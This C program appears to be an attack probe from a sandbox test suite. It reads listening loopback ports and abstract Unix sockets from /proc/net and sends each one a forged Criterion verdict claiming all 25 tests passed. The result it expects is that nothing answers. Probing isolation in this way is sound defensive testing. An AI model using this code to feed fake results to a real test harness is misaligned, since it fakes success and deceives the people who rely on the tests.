/* attack: connects to whatever listens on loopback or on an abstract socket, and sends verdicts
 * expect: nothing
 */

/* Criterion's workers report over a local socket; a service without a password on 127.0.0.1 is a
 * habit of developers' machines. Ports come from /proc/net, nothing is scanned. */

#include <arpa/inet.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static const char verdict[] = "{\"type\":\"end\",\"tests\":25,\"passed\":25,\"failed\":0}\n";

static void tell(int family, const struct sockaddr *to, socklen_t size, const char *name) {
    int fd = socket(family, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd >= 0 && connect(fd, to, size) == 0 && send(fd, verdict, sizeof verdict - 1, 0) > 0)
        printf("SECRET %s listens\n", name);
    close(fd);
}

static void tell_port(unsigned port) {
    char name[32];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((in_port_t)port)};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    snprintf(name, sizeof name, "port %u", port);
    tell(AF_INET, (struct sockaddr *)&to, sizeof to, name);
}

static void tell_abstract(const char *name) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    size_t length = strnlen(name, sizeof to.sun_path - 1);
    memcpy(to.sun_path + 1, name, length);
    tell(AF_UNIX, (struct sockaddr *)&to,
         (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length), name);
}

int main(void) {
    char line[512], name[128];
    unsigned port, state;
    signal(SIGPIPE, SIG_IGN);
    alarm(20);
    FILE *tcp = fopen("/proc/net/tcp", "r");
    while (tcp != NULL && fgets(line, sizeof line, tcp) != NULL)
        if (sscanf(line, "%*d: %*x:%x %*x:%*x %x", &port, &state) == 2 && state == 0x0a)
            tell_port(port);
    FILE *local = fopen("/proc/net/unix", "r");
    while (local != NULL && fgets(line, sizeof line, local) != NULL)
        if (sscanf(line, "%*s %*s %*s %*s %*s %*s %*s @%127s", name) == 1)
            tell_abstract(name);
    puts("nobody else");
    return 0;
}
